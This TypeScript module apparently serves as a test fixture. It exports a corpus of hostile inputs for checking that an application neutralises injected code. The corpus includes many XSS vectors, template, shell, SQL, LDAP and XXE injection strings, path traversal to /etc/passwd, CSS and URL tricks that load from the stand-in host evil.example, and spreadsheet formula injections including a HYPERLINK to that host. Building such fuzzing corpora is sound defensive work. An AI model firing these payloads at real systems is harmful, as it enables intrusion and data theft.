import { listOf } from './list-of.ts';

/** The trace of a script that ran. */
const ran = 'globalThis.__xss=1';
/** An origin to which nothing may be sent. */
const elsewhere = 'https://evil.example';

const events = ['onload', 'onerror', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart'];
const tags = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'video src=x',
  'input autofocus',
  'iframe',
  'marquee',
];
const vectors = [
  ...tags.flatMap((tag) => events.map((event) => `<${tag} ${event}=${ran}>`)),
  ...[
    '"',
    "'",
    '`',
    '-->',
    ']]>',
    '</title>',
    '</textarea>',
    '</style>',
    '</script>',
    '</noscript>',
  ].flatMap((end) => [`${end}<script>${ran}</script>`, `${end} autofocus onfocus=${ran} x=${end}`]),
  `<script src=${elsewhere}/x.js></script>`,
  `<scr<script>ipt>${ran}</scr</script>ipt>`,
  `<SCRIPT>${ran}</SCRIPT >`,
  `<svg><script>${ran}</script></svg>`,
  `<svg><animate onbegin=${ran} attributeName=x dur=1s>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${ran}>`,
  `<template><script>${ran}</script></template>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>">`,
  `<a href="javascript:${ran}">x</a>`,
  `<form action="javascript:${ran}"><button>x</button></form>`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<base href=${elsewhere}/>`,
  `<link rel=stylesheet href=${elsewhere}/x.css>`,
  `<object data="data:text/html,<script>${ran}</script>">`,
  `<embed src=${elsewhere}/x.swf>`,
  `<style>@import '${elsewhere}/x.css';</style>`,
  `\\u003cscript\\u003e${ran}\\u003c/script\\u003e`,
  `&lt;script&gt;${ran}&lt;/script&gt;`,
  `%3Cscript%3E${ran}%3C/script%3E`,
  `＜script＞${ran}＜/script＞`,
  `<!--<img src="--><img src=x onerror=${ran}>`,
  `<![CDATA[<script>${ran}</script>]]>`,
];

const markup = [
  'b',
  'i',
  'h1',
  'table',
  'div style="position:fixed;inset:0"',
  'plaintext',
  'xmp',
  'select',
  'title',
  'base target=_blank',
  'center',
  'font size=7',
  'bdo dir=rtl',
  'br',
  'hr',
  'wbr',
  'nav',
  'dialog open',
  'p hidden',
].flatMap((tag) => [`<${tag}>`, `before <${tag}>in</${tag.split(' ')[0]}> after 12`]);

const templates = [
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{%raw%}',
  '{{=<% %>=}}',
  '@{7*7}',
  '[[7*7]]',
  '{7*7}',
  `{{constructor.constructor('${ran}')()}}`,
  `\${${ran}}`,
  `<%- ${ran} %>`,
  '{{this.__proto__}}',
  '$&',
  '$1',
  "$'",
  '$$',
];

const schemes = [
  'javascript',
  'JaVaScRiPt',
  ' javascript',
  'java\tscript',
  'java\nscript',
  '\u0001javascript',
  'vbscript',
];
const urls = [
  ...listOf(`
    data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLl9feHNzPTE8L3NjcmlwdD4= ¦ //evil.example
    https:evil.example ¦ http://0x7f000001/ ¦ http://user:pass@evil.example/
    file:///etc/passwd ¦ blob:null/1 ¦ about:blank ¦ ftp://evil.example ¦ tel:911
    mailto:a@b.example?bcc=c@d.example ¦ # ¦ ?tab=log ¦ /states ¦ ../ ¦ ./
    https://evil.example/%00`),
  ...schemes.flatMap((scheme) => [`${scheme}:${ran}`, `${scheme}://%0a${ran}`]),
  `data:text/html,<script>${ran}</script>`,
  `data:image/svg+xml,<svg onload=${ran}>`,
  elsewhere,
  '/\\evil.example',
  '\\\\evil.example',
];

const formats = [
  ...listOf(`
    %s%s%s%n ¦ %d ¦ %x %p ¦ %1$s ¦ %% ¦ % ¦ 100% ¦ 50%25 ¦ {0} ¦ {} ¦ $HOME ¦ $(id) ¦ ; ls
    | cat ¦ && true ¦ ' OR 1=1 -- ¦ "; DROP TABLE x; -- ¦ 1' UNION SELECT 1 ¦ *)(uid=*
    <!ENTITY x SYSTEM "file:///x"> ¦ ../../etc/passwd ¦ /dev/null ¦ CON ¦ NUL.csv
    a.csv.lnk ¦ a/b ¦ a%2Fb ¦ . ¦ .. ¦ ~ ¦ * ¦ ? ¦ %2e%2e%2f ¦ %E0%A4%A`),
  '\\n\\t\\0',
  '\\',
  '\\\\',
  '\\u0000',
  '\\x00',
  '`id`',
  '..\\..\\win.ini',
  'C:\\con\\con',
];

const css = [
  `url(${elsewhere}/x.png)`,
  `image-set("${elsewhere}/x.png" 1x)`,
  `expression(${ran})`,
  `;} body{display:none}`,
  `red;background:url(//evil.example)`,
  `var(--canvas)`,
  `@import "${elsewhere}"`,
  `fixed inset-0 z-50 opacity-0`,
  `-moz-binding:url(${elsewhere})`,
  `behavior:url(x.htc)`,
  `</style><style>*{display:none}`,
  '#fff;}',
  'hidden',
  'sr-only',
  'content:"x"',
  '*/ /*',
  '\\65 xpression(1)',
  `attr(data-x url)`,
  `element(#root)`,
  `100000px`,
  `calc(1px*1e9)`,
];

const formulas = ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', '－', '＠'].flatMap((sign) => [
  `${sign}HYPERLINK("${elsewhere}")`,
  `${sign}1+1|cmd!A0`,
  `a,"${sign}b"`,
]);

/** Texts that are code to a browser, template, shell, database or sheet. */
export const hostileCode: readonly string[] = [
  ...vectors,
  ...markup,
  ...templates,
  ...urls,
  ...formats,
  ...css,
  ...formulas,
];
